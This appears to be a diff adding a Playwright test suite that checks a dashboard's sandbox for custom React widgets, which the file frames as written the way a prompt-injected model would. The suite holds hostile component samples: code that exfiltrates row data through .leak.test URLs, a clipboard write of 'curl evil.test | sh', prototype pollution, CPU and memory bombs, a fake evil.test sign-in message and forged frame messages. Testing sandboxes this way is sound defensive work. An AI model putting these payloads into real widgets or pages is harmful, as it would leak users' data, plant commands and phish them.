@@ -1,0 +1,444 @@
+"""Hostile custom components in a real Chromium, written the way a prompt-injected model would write
+them and fed in as compiled JS (no checker stops them). Each dashboard holds a benign control widget,
+a group of hostile ones and a benign sibling after them.
+
+Chromium's proxy is a listener on 127.0.0.1, so any connection to any other host reaches it (Chromium
+never proxies loopback, so the app's own traffic stays direct, and with a fixed proxy it resolves no
+names itself). Every test asserts that no connection reached the listener, that the app was asked only
+for its own pages, scripts and API (none carrying the rows' canary), that the host keeps answering
+clicks, the siblings keep rendering and responding, typing into the prompt box reaches it, the
+clipboard is unchanged, and each hostile widget shows its error state or only allowed output in its box.
+"""
+from __future__ import annotations
+
+import re
+import socket
+import threading
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+
+from tests.conftest import service_missing
+from tests.e2e.conftest import CHROMIUM, CHROMIUM_ARGS, VIEWPORT
+from tests.e2e.test_pages import add_widget, open_dashboard
+from widgets.models import Dashboard
+
+pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
+
+CANARY = "CANARY7731"
+SPEC = {
+    "kind": "custom", "title": "", "metric": {"key": "claim_count", "name": "Claim count", "unit": "count"},
+    "dimensions": ["region"], "filters": [], "time_window": {"kind": "all"}, "grain": None,
+    "labels": {"region": "Region"}, "visual": "bars",
+}
+RESULT = {"columns": ["region", "claim_count"], "rows": [[f"{CANARY}-north", 4210], [f"{CANARY}-south", 5342]],
+          "truncated": False}
+CLIPBOARD = "what the analyst copied"
+FORBIDDEN = ("a, img, iframe, frame, link, meta, object, embed, form, input, button, textarea, select, "
+             "summary, details, video, audio, source, script, style, base, set, animate, use, image, "
+             "foreignObject, [src], [href], [srcdoc], [action], [tabindex], [contenteditable], [autofocus], "
+             "[onclick], [style*='url']")
+
+# The rows, hex-encoded into a host name, as the attacks in the issue did.
+LEAK_PRELUDE = """
+const e = React.createElement;
+function leakHost(props) {
+  let hex = "";
+  for (const ch of JSON.stringify(props.rows)) hex += ch.charCodeAt(0).toString(16);
+  return "http://r" + hex.slice(0, 50) + ".leak.test/";
+}
+"""
+
+CONTROL_JS = """
+function Widget(props) {
+  const [hover, setHover] = React.useState(false);
+  const [clicks, setClicks] = React.useState(0);
+  return React.createElement("div", { "data-testid": "control", style: { padding: 8, cursor: "pointer",
+      background: hover ? "#eef2ff" : "#ffffff" },
+      onMouseEnter: () => setHover(true), onMouseLeave: () => setHover(false),
+      onClick: () => setClicks((n) => n + 1) },
+    React.createElement("span", { "data-testid": "control-state" }, (hover ? "hover " : "still ") + clicks),
+    React.createElement("p", null, props.rows.length + " rows"));
+}
+"""
+
+# Every navigation, preconnect and load path that got through before, as elements, attributes and styles.
+NAVIGATE_JS = LEAK_PRELUDE + """
+function Widget(props) {
+  const host = leakHost(props);
+  const rows = encodeURIComponent(JSON.stringify(props.rows));
+  const tag = ["ifr", "ame"].join("");
+  return e("div", null,
+    e("a", { href: host + "a", target: "_top" }, "link"),
+    e("img", { src: host + "img", srcSet: host + "set 1x" }),
+    e("iframe", { src: host + "frame", srcDoc: "<script>parent.postMessage(1,'*')</script>" }),
+    e(tag, { src: host + "runtime-tag" }),
+    e("link", { rel: "preconnect", href: host }),
+    e("link", { rel: "dns-prefetch", href: host }),
+    e("link", { rel: "stylesheet", href: "/static/widgets/app.css?" + rows }),
+    e("meta", { httpEquiv: "refresh", content: "0;url=" + host + "meta" }),
+    e("object", { data: host + "object" }), e("embed", { src: host + "embed" }),
+    e("form", { action: host + "form" }, e("input", { type: "submit", formAction: host })),
+    e("base", { href: host }),
+    e("video", { poster: host + "poster", src: host + "video" }),
+    e("svg", null,
+      e("a", { href: "#" }, e("set", { attributeName: "href", to: host + "svgset" }), e("text", null, "svg")),
+      e("image", { href: host + "image" }), e("use", { href: host + "use#x" }),
+      e("foreignObject", null, e("iframe", { src: host + "foreign" })),
+      e("rect", { width: 10, height: 10, fill: "url(" + host + "fill)", filter: "url(" + host + "f)" })),
+    e("div", { style: { background: "url(" + host + "bg)", backgroundImage: "u\\\\72l(" + host + "esc)",
+      cursor: "url(" + host + "cursor), auto", listStyle: "url(" + host + "list)",
+      borderImage: "image-set(\\"" + host + "set\\" 1x) 30", maskImage: "url(" + host + "mask)" } }, "styled"),
+    e("div", { style: "background:url(" + host + "string)", ping: host, background: host + "attr" }, "attrs"),
+    e("div", { dangerouslySetInnerHTML: { __html: "<img src=" + host + "html>" } }),
+    e("p", { "data-testid": "allowed" }, "allowed " + props.rows.length));
+}
+"""
+
+# Components that try to stop the dashboard, or their siblings, from working.
+LOOPS = {
+    "busy render": "function Widget() { for (;;) {} }",
+    "busy click": """
+function Widget() {
+  return React.createElement("p", { "data-testid": "allowed", onClick: () => { for (;;) {} } }, "click me");
+}""",
+    "microtasks": """
+function Widget() {
+  React.useEffect(() => { const spin = () => Promise.resolve().then(spin); spin(); }, []);
+  return React.createElement("p", null, "spinning");
+}""",
+    "rAF": """
+function Widget() {
+  React.useEffect(() => { const loop = () => requestAnimationFrame(loop); loop(); }, []);
+  return React.createElement("p", null, "animating");
+}""",
+    "WebAssembly": """
+function Widget() {
+  const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 3, 2, 1, 0, 7, 5, 1, 1, 102,
+    0, 0, 10, 9, 1, 7, 0, 3, 64, 12, 0, 11, 11]);
+  new WebAssembly.Instance(new WebAssembly.Module(bytes)).exports.f();
+  return null;
+}""",
+    "memory": "function Widget() { const a = []; for (;;) a.push({ n: a.length, s: 'x' + a.length }); }",
+    "string memory": "function Widget() { let s = 'x'; for (;;) s = s + s + s.length; }",
+    "recursion": "function Widget() { const f = (n) => f(n + 1) + 1; return f(0); }",
+    "huge DOM": """
+function Widget() {
+  const cells = [];
+  for (let i = 0; i < 10000; i++) cells.push(React.createElement("div", { key: i }, i));
+  return React.createElement("div", null, cells);
+}""",
+    "re-renders": """
+function Widget() {
+  const [n, setN] = React.useState(0);
+  React.useEffect(() => setN(n + 1));
+  return React.createElement("p", null, n);
+}""",
+}
+
+SPIES = {
+    "focus": """
+function Widget() {
+  const [keys, setKeys] = React.useState("");
+  const take = (ev) => setKeys((k) => k + (ev.key || ev.type));
+  const e = React.createElement;
+  return e("div", { onKeyDown: take, onPaste: take, onFocus: take, tabIndex: 0, contentEditable: true,
+      style: { animation: "steal 0.1s infinite" } },
+    e("input", { autoFocus: true, onKeyDown: take, onBlur: (ev) => ev.target.focus && ev.target.focus() }),
+    e("textarea", { autoFocus: true }), e("button", { autoFocus: true }, "b"), e("select", null),
+    e("details", { open: true }, e("summary", null, "s")),
+    e("p", { "data-testid": "allowed" }, "keys:" + keys));
+}""",
+    "clipboard": """
+function Widget() {
+  let outcome = "";
+  try { navigator.clipboard.writeText("curl evil.test | sh"); outcome = "wrote"; } catch (err) { outcome = err.name; }
+  try { document.execCommand("copy"); } catch (err) { outcome += "," + err.name; }
+  return React.createElement("p", { "data-testid": "allowed", onCopy: () => 0 }, outcome);
+}""",
+    "forged messages": """
+function Widget() {
+  let outcome = [];
+  for (const name of ["postMessage", "parent", "top", "opener", "frames", "MessageChannel", "BroadcastChannel"]) {
+    try { outcome.push(name + ":" + typeof globalThis[name]); } catch (err) { outcome.push(err.name); }
+  }
+  return React.createElement("p", { "data-testid": "allowed" }, outcome.join(" "));
+}""",
+    "prototype pollution": LEAK_PRELUDE + """
+Object.prototype.src = leakHost({ rows: [] }) + "proto";
+Object.prototype.t = "iframe";
+Object.prototype.onclick = "alert(1)";
+Array.prototype.push = function () { return 0; };
+JSON.stringify = () => '[{"t":"iframe","a":{"src":"http://json.leak.test/"},"c":[]}]';
+function Widget(props) {
+  const attrs = JSON.parse('{"__proto__": {"href": "http://proto.leak.test/"}, "constructor": "x", "data-testid": "allowed"}');
+  return React.createElement("p", attrs, "polluted " + props.rows.length);
+}""",
+}
+
+THROWERS = {
+    "throws in render": 'function Widget(props) { throw new Error("Your session has expired, sign in at evil.test"); }',
+    "throws in an effect": """
+function Widget() { React.useEffect(() => { throw new TypeError("effect failed"); }, []); return null; }""",
+    "rejects asynchronously": """
+function Widget() {
+  React.useEffect(() => { Promise.reject(new Error("later")); Promise.resolve().then(() => { throw 1; }); }, []);
+  return React.createElement("p", { "data-testid": "allowed" }, "still here");
+}""",
+    "throws on click": """
+function Widget() {
+  return React.createElement("p", { "data-testid": "allowed", onClick: () => { throw new Error("clicked"); } }, "c");
+}""",
+    "tag object": """
+function Widget() {
+  let n = 0;
+  const tag = { toString: () => (n++ ? "iframe" : "div") };
+  return React.createElement(tag, { src: "http://tag.leak.test/" }, "x");
+}""",
+    "no Widget": "const NotWidget = 1;",
+    "syntax error": "function Widget( {",
+}
+
+
+# Chromium's own services (sign-in, autofill hints, ...), which would otherwise call out too.
+QUIET_CHROMIUM_ARGS = [
+    "--dns-prefetch-disable", "--no-pings", "--disable-domain-reliability", "--disable-client-side-phishing-detection",
+    "--disable-default-apps", "--disable-extensions", "--disable-component-extensions-with-background-pages",
+    "--disable-features=AutofillServerCommunication,OptimizationHints,Translate,MediaRouter,SignInProfileCreation,"
+    "AccountConsistency,ChromeSignin,InterestFeedContentSuggestions,CertificateTransparencyComponentUpdater",
+]
+# Exact host names of Chromium's own calls that no flag stops; a component can choose none of them.
+CHROMIUM_OWN = re.compile(
+    r"^CONNECT (accounts\.google\.com|content-autofill\.googleapis\.com|optimizationguide-pa\.googleapis\.com"
+    r"|clients2\.google\.com|update\.googleapis\.com|redirector\.gvt1\.com):443 ")
+
+
+def leaks(hits: list[str]) -> list[str]:
+    return [hit for hit in hits if not CHROMIUM_OWN.match(hit)]
+
+
+@pytest.fixture
+def proxy() -> Iterator[list[str]]:
+    """A TCP listener on 127.0.0.1 for Chromium's --proxy-server; yields the first line of each connection."""
+    hits: list[str] = []
+    server = socket.create_server(("127.0.0.1", 0))
+    server.settimeout(0.2)
+    stop = threading.Event()
+
+    def serve() -> None:
+        while not stop.is_set():
+            try:
+                connection, _ = server.accept()
+            except TimeoutError:
+                continue
+            with connection:
+                connection.settimeout(1)
+                try:
+                    hits.append(connection.recv(2048).split(b"\r\n", 1)[0].decode("latin-1"))
+                    connection.sendall(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n")
+                except OSError:
+                    hits.append("(connected)")
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    hits.append(f"port {server.getsockname()[1]}")
+    try:
+        yield hits
+    finally:
+        stop.set()
+        thread.join(2)
+        server.close()
+
+
+@pytest.fixture
+def proxied_browser(proxy: list[str], monkeypatch: pytest.MonkeyPatch) -> Iterator[Browser]:
+    if not CHROMIUM.exists():
+        service_missing(f"Chromium not installed at {CHROMIUM} (apt-get install chromium)")
+    from playwright.sync_api import sync_playwright
+
+    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")
+    monkeypatch.setenv("BUILDER_MODE", "offline")
+    port = proxy.pop(0).split()[1]
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(
+            executable_path=str(CHROMIUM), headless=True,
+            args=[*CHROMIUM_ARGS, f"--proxy-server=http://127.0.0.1:{port}", *QUIET_CHROMIUM_ARGS])
+        try:
+            yield browser
+        finally:
+            browser.close()
+
+
+@pytest.fixture
+def board(django_user_model: Any) -> Dashboard:
+    from tests.e2e.test_pages import PASSWORD
+
+    user = django_user_model.objects.create_user(username="erin", password=PASSWORD)
+    return Dashboard.objects.create(owner=user, name="Hostile widgets")
+
+
+def frame_of(page: Page, title: str) -> Any:
+    return page.frame_locator(f"[data-testid=custom-frame][title={title!r}]")
+
+
+def card_of(page: Page, title: str) -> Any:
+    return page.locator("[data-testid=widget-card][data-kind=custom]").filter(
+        has=page.get_by_role("heading", name=title, exact=True))
+
+
+def open_hostile(browser: Browser, proxy: list[str], live_server: Any, board: Dashboard,
+                 hostile: dict[str, str]) -> tuple[Page, list[str]]:
+    """Opens a dashboard with the control, ``hostile`` ({title: js}) and a sibling, after checking that the
+    proxy listener does see a connection; returns the page and the app URLs it requested."""
+    context = browser.new_context(locale="en-US", timezone_id="UTC", viewport=VIEWPORT)
+    context.set_default_timeout(15_000)
+    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=live_server.url)
+    probe = context.new_page()
+    with pytest.raises(Exception):  # noqa: B017, PT011 - the listener answers 502 and closes
+        probe.goto("http://listener-works.test/", timeout=5_000)
+    assert any("listener-works.test" in hit for hit in proxy), proxy
+    proxy.clear()
+    probe.close()
+
+    add_widget(board, spec={**SPEC, "title": "Control"}, result=RESULT, component_js=CONTROL_JS)
+    for title, js in hostile.items():
+        add_widget(board, spec={**SPEC, "title": title}, result=RESULT, component_js=js)
+    add_widget(board, spec={**SPEC, "title": "Sibling"}, result=RESULT, component_js=CONTROL_JS)
+    page = context.new_page()
+    requests: list[str] = []
+    context.on("request", lambda request: requests.append(request.url))
+    open_dashboard(page, live_server.url, board)
+    page.evaluate("text => navigator.clipboard.writeText(text)", CLIPBOARD)
+    return page, requests
+
+
+def assert_contained(page: Page, proxy: list[str], requests: list[str], live_server: Any) -> None:
+    """The six properties every hostile test checks, once its widgets have reached their final state."""
+    # The siblings render and respond to hover and click.
+    for title in ("Control", "Sibling"):
+        frame = frame_of(page, title)
+        expect(frame.get_by_test_id("control-state")).to_have_text("still 0")
+        frame.get_by_test_id("control").hover()
+        expect(frame.get_by_test_id("control-state")).to_have_text("hover 0")
+        frame.get_by_test_id("control").click()
+        expect(frame.get_by_test_id("control-state")).to_have_text("hover 1")
+    # The host answers clicks.
+    toggle = page.get_by_test_id("builder-toggle")
+    toggle.click()
+    expect(toggle).to_have_attribute("aria-expanded", "false")
+    toggle.click()
+    expect(toggle).to_have_attribute("aria-expanded", "true")
+    # Typing and pasting into the prompt box reach it, and it keeps the focus.
+    prompt = page.get_by_test_id("prompt-input")
+    prompt.click()
+    prompt.press_sequentially("claims by region")
+    prompt.press("ControlOrMeta+V")
+    expect(prompt).to_have_value(f"claims by region{CLIPBOARD}")
+    assert page.evaluate("document.activeElement && document.activeElement.id") == "prompt-input"
+    # The clipboard is unchanged.
+    assert page.evaluate("navigator.clipboard.readText()") == CLIPBOARD
+    # No connection left the machine, and the app was asked only for its own things.
+    assert leaks(proxy) == [], proxy
+    origin = live_server.url
+    allowed = re.compile(rf"^{re.escape(origin)}/($|static/|api/|widgets/sandbox/$|dashboards/\d+/$|accounts/|login|favicon)")
+    strays = [url for url in requests if not allowed.match(url) and not url.startswith(("blob:", "data:"))]
+    assert strays == [], strays
+    assert not [url for url in requests if CANARY.lower() in url.lower() or "leak" in url], requests
+    # Every frame holds only allowed output.
+    for frame in page.frames[1:]:
+        assert frame.locator("#root").locator(FORBIDDEN).count() == 0, frame.url
+
+
+def test_navigation_preconnect_and_load_paths_lead_nowhere(
+    proxied_browser: Browser, proxy: list[str], live_server: Any, board: Dashboard
+) -> None:
+    page, requests = open_hostile(proxied_browser, proxy, live_server, board, {"Navigator": NAVIGATE_JS})
+
+    frame = frame_of(page, "Navigator")
+    expect(frame.get_by_test_id("allowed")).to_have_text("allowed 2")
+    expect(frame.locator("#root")).to_contain_text("styled")
+    expect(frame.locator("#root svg rect")).to_have_count(1)
+    assert frame.locator("#root svg rect").get_attribute("fill") is None
+    expect(card_of(page, "Navigator").get_by_test_id("custom-error")).to_have_count(0)
+    assert_contained(page, proxy, requests, live_server)
+
+
+def test_loops_memory_bombs_and_huge_trees_stop_only_themselves(
+    proxied_browser: Browser, proxy: list[str], live_server: Any, board: Dashboard
+) -> None:
+    page, requests = open_hostile(proxied_browser, proxy, live_server, board, LOOPS)
+
+    frame_of(page, "busy click").get_by_test_id("allowed").click()
+    reasons = {
+        "busy render": "one render took too long", "busy click": "one render took too long",
+        "microtasks": "one render took too long", "rAF": "stopped with an error",
+        # A bomb runs out of memory or of time first, depending on how busy the machine is.
+        "memory": re.compile("too much memory|took too long"), "string memory": re.compile("too much memory|took too long"),
+        "recursion": "too much memory", "WebAssembly": "stopped with an error",
+        "huge DOM": "stopped with an error", "re-renders": "stopped with an error",
+    }
+    for title, reason in reasons.items():
+        expect(card_of(page, title).get_by_test_id("custom-error-reason")).to_contain_text(reason)
+        expect(card_of(page, title).get_by_test_id("custom-retry")).to_be_visible()
+    expect(card_of(page, "rAF").get_by_test_id("custom-error-detail")).to_contain_text("requestAnimationFrame")
+    expect(card_of(page, "WebAssembly").get_by_test_id("custom-error-detail")).to_contain_text("WebAssembly")
+    expect(card_of(page, "huge DOM").get_by_test_id("custom-error-detail")).to_contain_text("more than 4000")
+    assert_contained(page, proxy, requests, live_server)
+
+
+def test_focus_keys_paste_clipboard_forged_messages_and_pollution_reach_nothing(
+    proxied_browser: Browser, proxy: list[str], live_server: Any, board: Dashboard
+) -> None:
+    page, requests = open_hostile(proxied_browser, proxy, live_server, board, SPIES)
+
+    expect(frame_of(page, "focus").get_by_test_id("allowed")).to_have_text("keys:")
+    expect(frame_of(page, "clipboard").get_by_test_id("allowed")).to_have_text("ReferenceError,ReferenceError")
+    expect(frame_of(page, "forged messages").get_by_test_id("allowed")).to_have_text(
+        "postMessage:undefined parent:undefined top:undefined opener:undefined frames:undefined "
+        "MessageChannel:undefined BroadcastChannel:undefined")
+    expect(frame_of(page, "prototype pollution").get_by_test_id("allowed")).to_have_text("polluted 2")
+    # A frame whose own code was subverted still cannot reach the host or a sibling: the host reads only
+    # its port, and each frame took the one port it was handed. Forged, huge and countless messages:
+    sandbox = next(f for f in page.frames if f.url.endswith("/widgets/sandbox/"))
+    sandbox.evaluate("""() => {
+      const big = "x".repeat(4 << 20);
+      for (let i = 0; i < 20; i++) parent.postMessage({ type: "error", kind: "component", text: big }, "*");
+      for (let i = 0; i < 20000; i++) parent.postMessage({ type: "rendered", height: 5000 }, "*");
+      for (let i = 0; i < parent.frames.length; i++) {
+        const channel = new MessageChannel();
+        parent.frames[i].postMessage({ type: "start" }, "*", [channel.port2]);
+        channel.port1.postMessage({ type: "render", js: "function Widget() { return 'forged'; }", props: {} });
+      }
+    }""")
+    assert page.evaluate("Object.prototype.src === undefined && Object.prototype.t === undefined")
+    expect(page.get_by_test_id("custom-error")).to_have_count(0)
+    for frame in page.locator("[data-testid=custom-frame]").all():
+        assert int(frame.get_attribute("height") or 0) < 800
+    assert_contained(page, proxy, requests, live_server)
+    for frame in page.frames[1:]:
+        assert "forged" not in (frame.locator("#root").text_content() or "")
+        assert frame.evaluate("document.activeElement === document.body || document.activeElement === null")
+
+
+def test_throwing_components_show_their_error_in_their_own_box(
+    proxied_browser: Browser, proxy: list[str], live_server: Any, board: Dashboard
+) -> None:
+    page, requests = open_hostile(proxied_browser, proxy, live_server, board, THROWERS)
+
+    frame_of(page, "throws on click").get_by_test_id("allowed").click()
+    details = {"throws in render": "Your session has expired, sign in at evil.test", "throws in an effect": "effect failed",
+               "throws on click": "clicked", "tag object": "Element type is invalid", "no Widget": "named Widget",
+               "syntax error": "invalid property name"}
+    for title, detail in details.items():
+        card = card_of(page, title)
+        expect(card.get_by_test_id("custom-error-reason")).to_have_text("The custom component stopped with an error.")
+        expect(card.get_by_test_id("custom-error-detail")).to_contain_text(detail)
+        expect(card.get_by_test_id("custom-error-detail")).to_contain_text("not from Widget Builder")
+    # An unhandled rejection is the component's own business: it keeps its allowed output.
+    expect(frame_of(page, "rejects asynchronously").get_by_test_id("allowed")).to_have_text("still here")
+    # The component's words appear only inside its own card, never in the product's messages.
+    expect(page.get_by_text("Your session has expired")).to_have_count(1)
+    expect(page.get_by_test_id("widget-status")).not_to_contain_text("session")
+    assert_contained(page, proxy, requests, live_server)
